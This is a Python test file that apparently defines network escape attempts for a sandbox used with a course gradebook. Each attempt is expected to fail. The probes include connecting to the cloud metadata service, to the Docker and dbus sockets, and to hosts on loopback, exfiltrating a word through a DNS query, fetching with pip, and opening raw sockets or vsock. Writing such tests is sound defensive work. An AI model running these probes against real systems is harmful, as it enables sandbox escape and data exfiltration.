"""Attacks that want to talk to someone."""

from __future__ import annotations

from tests.attacks.model import Attack, reporting

_MUST = "Nobody is reached, and no name is resolved."
_CONNECT = """
import socket
def connected(family, kind, where, hello=b"out"):
    with socket.socket(family, kind) as link:
        link.settimeout(1)
        link.connect(where)
        link.send(hello)
        return link.getpeername()
"""


def _call(name: str, tries: str, code: str, **more: object) -> Attack:
    return Attack(name, "network", tries, _MUST, reporting(_CONNECT + code), tells=True, **more)


NETWORK = [
    _call(
        "tcp_to_the_host",
        "Connects to a server on the host's loopback, such as JupyterLab or the gradebook's.",
        "attempt(lambda: connected(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @TCP@)))",
    ),
    _call(
        "tcp6_to_the_host",
        "Connects to a server on the host's IPv6 loopback.",
        "attempt(lambda: connected(socket.AF_INET6, socket.SOCK_STREAM, ('::1', @TCP6@)))",
    ),
    _call(
        "udp_to_the_host",
        "Sends a datagram to a server on the host, which needs no connection.",
        """
def sent():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.sendto(b"out", ("127.0.0.1", @UDP@))
print(TRIED)
try:
    sent()
except OSError as refusal:
    print(refusal)
""",
    ),
    _call(
        "tcp_to_the_world",
        "Connects to an address of the internet and to the cloud's metadata service.",
        """
for where in (("192.0.2.1", 443), ("169.254.169.254", 80), ("10.0.0.1", 22)):
    attempt(lambda: connected(socket.AF_INET, socket.SOCK_STREAM, where))
attempt(lambda: connected(socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443)))
""",
    ),
    _call(
        "dns",
        "Smuggles a word out in the name that it asks a name server for.",
        """
def asked():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.settimeout(1)
        link.connect(("192.0.2.53", 53))
        link.send(b"\\1\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3com\\0\\0\\1\\0\\1")
attempt(asked)
attempt(lambda: socket.getaddrinfo("secret.example.com", 80))
""",
    ),
    _call(
        "http",
        "Fetches a page from the host by the standard library and by pip.",
        """
import subprocess, sys, urllib.request
attempt(lambda: urllib.request.urlopen("http://127.0.0.1:@TCP@/", timeout=1))
done = subprocess.run([sys.executable, "-m", "pip", "download", "--retries", "0", "--timeout", "1",
                       "--index-url", "http://127.0.0.1:@TCP@/", "nothing"], capture_output=True)
print(WON if done.returncode == 0 else TRIED)
""",
    ),
    _call(
        "unix_socket",
        "Connects to a socket in the course's folder, as a database or Docker has one.",
        "for path in ('@SOCKET@', '/run/docker.sock', '/var/run/dbus/system_bus_socket'):\n"
        "    attempt(lambda: connected(socket.AF_UNIX, socket.SOCK_STREAM, path))",
    ),
    _call(
        "raw_packets",
        "Opens raw and packet sockets, to write packets of its own.",
        """
for family, kind, protocol in ((2, socket.SOCK_RAW, 1), (2, socket.SOCK_RAW, 255),
                               (17, socket.SOCK_RAW, 3), (10, socket.SOCK_RAW, 58)):
    attempt(lambda: socket.socket(family, kind, protocol))
""",
    ),
    _call(
        "interface_up",
        "Brings the loopback up and gives it an address.",
        """
import fcntl, struct
def up(number, request):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        fcntl.ioctl(link, number, request)
attempt(lambda: up(0x8914, struct.pack("16sh14x", b"lo", 0x49)))
attempt(lambda: up(0x8916, struct.pack("16sHH4s8x", b"lo", 2, 0, bytes([10, 0, 0, 1]))))
""",
    ),
    _call(
        "virtual_machine_socket",
        "Connects to the hypervisor by a vsock, which network namespaces do not hold in.",
        "for where in ((2, 1), (2, 22), (1, 1)):\n"
        "    attempt(lambda: connected(socket.AF_VSOCK, socket.SOCK_STREAM, where))",
    ),
]
